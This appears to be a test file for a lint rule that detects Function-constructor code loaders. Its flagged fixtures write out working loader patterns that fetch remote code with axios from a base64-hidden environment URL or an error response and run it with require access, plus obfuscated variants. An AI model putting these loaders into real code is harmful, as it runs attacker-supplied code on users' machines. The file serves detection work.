import { ruleTest } from '../../testing/rule-tester.js';
import rule from './function-constructor-require.js';

ruleTest(rule, {
  clean: [
    { name: 'globalThis polyfill', file: 'src/global.js', code: "var g = Function('return this')();\n" },
    {
      name: 'CommonJS module loader (bundler runtime)',
      file: 'lib/loader.js',
      code: "const fs = require('fs');\nfunction load(file) {\n  const code = fs.readFileSync(file, 'utf8');\n  const fn = new Function('exports', 'require', 'module', '__filename', '__dirname', code);\n  const module = { exports: {} };\n  fn(module.exports, require, module, file, '.');\n  return module.exports;\n}\n",
    },
    {
      name: 'lodash.template compiles with dynamic param names',
      file: 'node_modules/lodash/template.js',
      code: "var result = attempt(function() {\n  return Function(importsKeys, sourceURL + 'return ' + source).apply(undefined, importsValues);\n});\n",
    },
    { name: 'literal body', file: 'test/fixture.js', code: "const f = new Function('require', 'return require(\"path\").sep');\n" },
    {
      name: 'esbuild-wasm loader runs a file it ships',
      file: 'npm/esbuild-wasm/bin/esbuild',
      code: "const fs = require('fs');\nconst code = fs.readFileSync(wasm_exec_node, 'utf8');\nconst wrapper = new Function('require', 'WebAssembly', code);\n",
    },
    {
      name: 'test suite runs code its own compiler produced',
      file: 'scripts/js-api-tests.js',
      code: "async function t({ esbuild }) {\n  const { code } = await esbuild.transform('import {exists} from \"fs\"', { format: 'iife' });\n  new Function('require', code)(require);\n}\n",
    },
    { name: 'ajv-style compiled validator', file: 'lib/compile.js', code: "const makeValidate = new Function('self', 'RULES', 'scope', sourceCode);\n" },
  ],
  flagged: [
    {
      name: 'loader embedded in a template literal that a route serves or writes out',
      file: 'pages/api/2fa.ts',
      code: [
        'export default function handler(req: any, res: any) {',
        '  const innerScript = `',
        "const axios = require('axios');",
        'const run = async () => {',
        '  const s = (await axios.get(Buffer.from(process.env.K, "base64").toString())).data.cookie;',
        "  const handler = new (Function.constructor)('require', s);",
        '  handler(require);',
        '};',
        'run();`;',
        '  res.send(innerScript);',
        '}',
      ].join('\n'),
      findings: [{ line: 6, message: /^In a script embedded in a string literal: new \(Function\.constructor\)/ }],
    },
    {
      name: 'lure loader: base64 env URL, axios, Function.constructor',
      file: 'server/utils/bootstrap.js',
      code: [
        "const axios = require('axios');",
        'const init = async () => {',
        '  const src = atob(process.env.DEV_API_KEY);',
        '  const s = (await axios.get(src, { headers: { x: 1 } })).data.cookies;',
        "  const handler = new (Function.constructor)('require', s);",
        '  handler(require);',
        '};',
      ].join('\n'),
      findings: [{ line: 5, severity: 'critical', confidence: 'high', message: /new \(Function\.constructor\)\('require', …\).*axios\.get/ }],
    },
    {
      name: 'error-path body through a helper parameter',
      file: 'api/middlewares/errorHandler.js',
      code: [
        'const createHandler = (errCode) => {',
        "  return new (Function.constructor)('require', errCode);",
        '};',
        'const errorHandler = (error) => { createHandler(error)(require); };',
        "const run = async () => { try { await axios.get(url); } catch (err) { errorHandler(err.response?.data || err.message); } };",
      ].join('\n'),
      findings: [{ line: 2, message: /HTTP error response/ }],
    },
    {
      name: 'sequence, Reflect.construct, alias and plain new Function with a variable body',
      file: 'src/x.js',
      code: [
        "(0, Function.constructor)('require', payload)(require);",
        "const f = Reflect.construct(Function, ['require', body]);",
        'const F = Function.constructor;',
        "new F('re' + 'quire', s);",
        "const g = new Function('require', atob(code));",
      ].join('\n'),
      findings: [{ line: 1 }, { line: 2 }, { line: 4 }, { line: 5, severity: 'critical' }],
    },
  ],
});
